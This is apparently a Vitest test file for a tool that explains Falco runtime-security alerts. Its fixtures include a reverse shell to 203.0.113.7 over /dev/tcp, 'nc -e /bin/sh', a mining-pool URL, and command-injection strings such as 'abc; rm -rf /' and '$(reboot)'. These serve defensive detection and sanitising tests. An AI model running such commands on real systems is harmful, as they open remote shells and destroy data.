import { describe, expect, it } from "vitest";
import { analyse } from "../../../src/core/analysis/analyse.ts";
import { type Analysis, plainText } from "../../../src/core/analysis/analysis.ts";
import { readPlaybooks } from "../../../src/core/analysis/read-playbooks.ts";
import type { Alert } from "../../../src/core/falco/alert.ts";
import { anAlert, commandsIn, FIXTURES, fixture, PLAYBOOK_FILES, PLAYBOOKS, textsOf, withFields } from "./alerts.ts";

describe("the built-in playbooks", () => {
  it("load without a problem", () => {
    expect(readPlaybooks(PLAYBOOK_FILES).problems).toEqual([]);
    expect(PLAYBOOKS.length).toBeGreaterThanOrEqual(5);
  });

  it.each(FIXTURES)("$name comes out as $verdict", ({ alert, verdict }) => {
    expect(of(alert).verdict.kind).toBe(verdict);
  });

  it.each(FIXTURES)("$name reads as whole sentences", ({ alert }) => {
    const { headline, whatHappened, whyItMatters, benignCauses, triage, containment } = of(alert);
    const proses = [
      headline,
      whatHappened,
      whyItMatters,
      benignCauses,
      triage.map((item) => [item.ask, item.interpret]),
    ];
    const texts = [...proses.flatMap(textsOf), ...containment.flatMap((item) => textsOf(item.do))];

    for (const text of texts)
      expect(text).not.toMatch(/\{\{|\}\}|\[\[|\]\]|undefined|\(\)| ,| \.(?= )|an? unknown \w+ unknown/);
    expect(texts.filter((text) => /^[a-z]?.*\bin an unknown/.test(text))).toEqual([]);
  });
});

const RULES = PLAYBOOKS.flatMap(({ content }) =>
  (content.match.rules ?? []).map((rule) => ({ rule, source: content.match.source })),
);

describe("an alert that carries nothing but its rule", () => {
  it.each(RULES)("of $rule is still told in a whole sentence", ({ rule, source }) => {
    const sentence = plainText(of(anAlert({ rule, source })).headline);

    expect(sentence).toMatch(/^[A-Za-z].*[\w)]\.$/);
    expect(sentence).not.toMatch(/[[\]{}]| {2}| [,.](?!\.)|[:,;]\.|\b(?:the|an?|of|to|in) \./);
  });
});

describe("the two alerts of the reports", () => {
  it.each(["report-1", "report-2", "report-1-with-metadata", "report-2-with-metadata"])(
    "%s is Falco's own driver loader, unconfirmed, with the check that would confirm it",
    (name) => {
      const { verdict, nextStep } = of(fixture(name));

      expect(verdict.kind).toBe("probably benign, unconfirmed");
      expect(plainText(verdict.because)).toBe("Falco's own driver loader");
      expect(nextStep.where).toBe("workstation");
      expect(nextStep.run).toContain(`--arg id "${String(fixture(name).fields["container.id"])}"`);
    },
  );

  it("says what is not in the alert", () => {
    const missing = of(fixture("report-1")).unknown.flatMap((item) => item.missingFields);

    expect(missing).toEqual(expect.arrayContaining(["container.image.repository", "proc.pname", "proc.tty"]));
  });

  it("is not taken in by the same command in another image", () => {
    const swapped = withFields(fixture("report-1"), {
      "container.image.repository": "docker.io/evil/falco-driver-loader",
    });

    expect(of(swapped).verdict.kind).toBe("needs review");
  });

  it("calls a kernel module from another image likely malicious", () => {
    const swapped = withFields(fixture("report-2"), { "container.image.repository": "docker.io/library/ubuntu" });

    expect(of(swapped).verdict.kind).toBe("likely malicious");
  });

  it.each(["report-1", "report-2"])("%s gets worse with a server parent and with a terminal", (name) => {
    expect(of(withFields(fixture(name), { "proc.pname": "nginx" })).verdict.kind).toBe("likely malicious");
    expect(of(withFields(fixture(name), { "proc.tty": 34816 })).verdict.kind).toBe("needs review");
  });
});

describe("a verdict", () => {
  it("never rests on a benign image that only looks alike", () => {
    const looks = [
      "docker.io/falcosecurity/falco-driver\u200d-loader",
      "docker.io/f\u0430lcosecurity/falco-driver-loader",
    ];
    for (const image of looks) {
      const alert = withFields(fixture("report-1"), { "container.image.repository": image });
      expect(of(alert).verdict.kind).toBe("needs review");
    }
  });

  it("is weak when only imitable text speaks for it, whatever else the alert carries", () => {
    expect(of(fixture("report-1")).verdict.confidence).toBe("weak");
  });

  it("is strong when the image says so and nothing against it is left open", () => {
    const alert = withFields(fixture("report-1-with-metadata"), {
      "container.image": "docker.io/falcosecurity/falco-driver-loader:0.39.1",
      "container.name": "falco-driver-loader",
      "k8s.ns.name": "falco",
      "k8s.pod.name": "falco-x2x4z",
      "proc.tty": 0,
      "proc.exepath": "/usr/bin/bash",
      "proc.pcmdline": "containerd-shim -namespace k8s.io",
      "proc.aname[2]": "systemd",
      ...Object.fromEntries([3, 4, 5, 6].map((level) => [`proc.aname[${level}]`, null])),
      "proc.is_exe_upper_layer": false,
      "proc.is_exe_from_memfd": false,
      "user.uid": 0,
    });

    expect(of(alert).verdict.confidence).toBe("strong");
  });
});

describe("advice for an alert", () => {
  it("names this alert's own objects", () => {
    const commands = commandsIn(of(fixture("shell-in-prod"))).join("\n");

    expect(commands).toContain("kubectl -n shop get pod web-7dc4876c85-p5wt7");
  });

  it("is withheld, with the reason, when the alert does not name the object", () => {
    const { withheld, triage } = of(fixture("report-1"));
    const noPod = of(withFields(fixture("shell-in-prod"), { "k8s.pod.name": null }));

    expect(withheld).toEqual([]);
    expect(triage.every((question) => question.run !== undefined)).toBe(true);
    expect(noPod.withheld.map((item) => item.reason)).toContain("the alert does not carry k8s.pod.name");
    expect(commandsIn(noPod).join("\n")).not.toContain("{{");
  });

  it.each(["abc; rm -rf /", "$(reboot)", "a b", "-rf", "a'b", 'a"b', "a\nb", "0123456789AB"])(
    "never puts %j into a command",
    (id) => {
      const analysis = of(withFields(fixture("report-1"), { "container.id": id }));

      expect(commandsIn(analysis).filter((command) => command.includes("--arg id"))).toEqual([]);
      expect(analysis.withheld.length).toBeGreaterThan(0);
    },
  );

  it("tests a cause that can be the case on a node, where the alert came from one", () => {
    const { nextStep } = of(fixture("archives-directly"));

    expect(plainText(nextStep.text)).toMatch(/^Check whether this is the cause/);
    expect(nextStep.where).toBe("node");
    expect(nextStep.run).toContain("journalctl");
  });
});

describe("an alert without a playbook", () => {
  it("is said to have none, and gets questions that fit what is known", () => {
    const inPod = of(
      anAlert({
        fields: { "proc.name": "nc", "k8s.ns.name": "shop", "k8s.pod.name": "web-1", "container.id": "0123456789ab" },
      }),
    );
    const inContainer = of(anAlert({ fields: { "proc.name": "nc", "container.id": "0123456789ab" } }));
    const onHost = of(anAlert({ fields: { "proc.name": "nc", "container.id": "host" } }));

    expect(plainText(inPod.whatHappened)).toContain("Falconer has no playbook for this rule");
    expect(inPod.triage[0]?.run).toContain("kubectl -n shop get pod web-1");
    expect(inContainer.triage[0]?.run).toContain('--arg id "0123456789ab"');
    expect(onHost.triage.map((question) => question.where)).toEqual(["node", "node"]);
  });

  it.each([
    [
      "process",
      { "proc.name": "nc", "proc.cmdline": "nc -l 4444", "user.name": "root" },
      "nc -l 4444 ran on worker-1, as root.",
    ],
    ["process", { "proc.name": "nc", "proc.cmdline": "/tmp/x -l" }, "nc ran /tmp/x -l on worker-1."],
    ["process", { "proc.name": "x", "proc.cmdline": "/tmp/x -l" }, "/tmp/x -l ran on worker-1."],
    ["process", { "proc.cmdline": "nc -l 4444" }, "nc -l 4444 ran on worker-1."],
    ["file", { "proc.cmdline": "touch /etc/x", "fd.name": "/etc/x" }, "touch /etc/x acted on /etc/x on worker-1."],
    ["process", { "proc.name": "nc", "proc.cmdline": "ncat -l" }, "nc ran ncat -l on worker-1."],
    [
      "container",
      {
        "proc.cmdline": "container:0123456789ab",
        "container.id": "0123456789ab",
        "container.name": "web",
        "user.name": "root",
      },
      "Container web was started on worker-1, as root.",
    ],
    ["container", { "proc.cmdline": "container:0123456789ab" }, "A container was started on worker-1."],
    [
      "file",
      { "proc.name": "vi", "fd.name": "/etc/passwd", "evt.type": "openat" },
      "vi opened /etc/passwd on worker-1.",
    ],
    [
      "network",
      { "proc.name": "nc", "fd.name": "10.0.0.1:1->10.0.0.2:2" },
      "nc used the network (10.0.0.1:1->10.0.0.2:2) on worker-1.",
    ],
    [
      "kubernetes audit",
      { "ka.user.name": "bob", "ka.verb": "list", "ka.target.resource": "secrets", "ka.target.namespace": "prod" },
      "bob sent the Kubernetes API a list request for secrets in namespace prod.",
    ],
    [
      "aws",
      { "ct.user": "bob", "ct.name": "StopLogging", "ct.region": "eu-west-1", "ct.srcip": "203.0.113.9" },
      "bob called StopLogging in eu-west-1 from 203.0.113.9.",
    ],
    ["gcp", { "gcp.user": "bob", "gcp.methodName": "SetIamPolicy" }, "bob called SetIamPolicy."],
    [
      "github",
      { "github.user": "bob", "github.type": "repository", "github.action": "publicized", "github.repo": "a/b" },
      "bob caused the GitHub event repository (publicized) in a/b.",
    ],
    [
      "okta",
      { "okta.actor.name": "Bob", "okta.evt.type": "user.mfa.factor.reset_all" },
      "Bob caused the Okta event user.mfa.factor.reset_all.",
    ],
    [
      "github repository",
      { "github.user": "bob", "github.type": "star", "github.repo.name": "a/b", "github.org": "a" },
      "bob caused the GitHub event star in a/b.",
    ],
    [
      "system call",
      { "evt.type": "kill", "proc.name": "bash", "proc.cmdline": "bash SYS-LOG-003.sh" },
      "bash SYS-LOG-003.sh called kill on worker-1.",
    ],
    [
      "container start",
      { "evt.type": "container", "proc.name": "nginx", "proc.cmdline": "nginx" },
      "nginx ran on worker-1.",
    ],
    ["other", {}, "The rule A rule of ours fired on worker-1."],
    [
      "container",
      { "container.id": "0123456789ab" },
      "The rule A rule of ours fired in container 0123456789ab on worker-1.",
    ],
  ])("tells a %s event in one sentence", (_, fields, sentence) => {
    expect(plainText(of(anAlert({ fields })).headline)).toBe(sentence);
  });

  it("keeps a padded command line from pushing the place out of sight", () => {
    const fields = { "proc.name": "nc", "proc.cmdline": `nc -e /bin/sh ${"A".repeat(5000)}`, "k8s.pod.name": "web-0" };
    const sentence = plainText(of(anAlert({ fields })).headline);

    expect(sentence).toMatch(/^nc -e \/bin\/sh A+… \(cut, 5014 characters\) ran in pod web-0/);
    expect(sentence.length).toBeLessThan(270);
  });

  it("knows root by name where the number is missing, and asks for nothing that is known", () => {
    const { evidence, unknown } = of(anAlert({ fields: { "proc.name": "nc", "user.name": "root" } }));

    expect(evidence.map(({ say }) => plainText(say))).toContain("the process runs as root");
    expect(unknown.flatMap(({ missingFields }) => missingFields)).not.toContain("user.uid");
  });

  it("never comes out as benign", () => {
    expect(of(anAlert({ fields: { "proc.name": "true" } })).verdict.kind).toBe("needs review");
  });

  it.each([
    { "proc.name": "sh", "proc.pname": "nginx" },
    { "proc.cmdline": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" },
    { "proc.exepath": "/dev/shm/x" },
    { "proc.cmdline": "x -o stratum+tcp://pool:3333" },
  ])("is likely malicious when its fields say so: %j", (fields) => {
    expect(of(anAlert({ fields })).verdict.kind).toBe("likely malicious");
  });
});

describe("Falco's messages about itself", () => {
  it.each([
    [
      "Falco internal: syscall event drop",
      { n_drops: "815508", n_evts: "2000000" },
      "dropped 815508 system call events out of 2000000",
    ],
    ["Falco internal: metrics snapshot", {}, "hourly metrics"],
    ["Falco internal: timeouts notification", { last_event_time: "never" }, "waited for events"],
    ["Falco internal: capture size limit reached", {}, "stopped a recording"],
    ["Falco internal: hot restart failure", {}, "told to reload and failed"],
    ["Falco internal: something new", {}, "Falco internal: something new"],
  ])("%s is sensor health, never a threat", (rule, fields, says) => {
    const analysis = of(anAlert({ rule, fields, source: "internal" }));

    expect(analysis.verdict.kind).toBe("sensor health");
    expect(plainText(analysis.whatHappened)).toContain(says);
    expect(analysis.nextStep.run).toBeDefined();
  });
});

describe("the process tree", () => {
  it("runs from the oldest ancestor down to the process", () => {
    const fields = {
      "proc.aname[3]": "systemd",
      "proc.aname[2]": "containerd-shim",
      "proc.pname": "sh",
      "proc.pcmdline": "sh -c x",
      "proc.name": "nc",
      "proc.cmdline": "nc -l",
      "proc.tty": 34816,
      "user.name": "root",
    };

    expect(of(anAlert({ fields })).processTree).toEqual([
      { name: "systemd", detail: undefined },
      { name: "containerd-shim", detail: undefined },
      { name: "sh", detail: "sh -c x" },
      { name: "nc", detail: "nc -l · terminal 34816 · user root" },
    ]);
  });
});

describe("the next step", () => {
  it("tests the very cause that the verdict names", () => {
    const { verdict, nextStep } = of(
      anAlert({
        rule: "Read sensitive file untrusted",
        fields: {
          "proc.name": "restic",
          "proc.exepath": "/usr/bin/restic",
          "fd.name": "/host/etc/shadow",
          "container.id": "0123456789ab",
          "k8s.ns.name": "backup",
          "k8s.pod.name": "node-backup-4tz8m",
        },
      }),
    );

    expect(verdict.kind).toBe("probably benign, unconfirmed");
    expect(plainText(verdict.because)).toBe("a backup or audit agent");
    expect(plainText(nextStep.text)).toMatch(/^Check whether this is the cause: A backup, /);
  });

  it.each(FIXTURES)("is no test of a cause that the verdict does not rest on: $name", ({ alert }) => {
    const { verdict, nextStep, benignCauses } = of(alert);
    if (verdict.kind !== "probably benign, unconfirmed") return;
    const tested = benignCauses.find(({ cause }) => plainText(nextStep.text).endsWith(plainText(cause)));
    const short = PLAYBOOKS.flatMap(({ content }) => content.benign_causes).filter(({ id }) => id === tested?.id);

    expect(tested === undefined || short.some((cause) => cause.short === plainText(verdict.because))).toBe(true);
  });
});

describe("the facts", () => {
  it("put the useful fields first, keep every digit and leave out what is not known", () => {
    const fields = {
      "evt.time": 1_730_281_682_285_310_500n,
      "container.id": null,
      "a.custom": "<NA>",
      "proc.cmdline": "id",
      "b.custom": false,
    };

    expect(of(anAlert({ fields })).facts).toEqual([
      { field: "proc.cmdline", value: "id" },
      { field: "b.custom", value: "false" },
      { field: "evt.time", value: "1730281682285310500" },
    ]);
  });
});

function of(alert: Alert): Analysis {
  return analyse(alert, PLAYBOOKS);
}
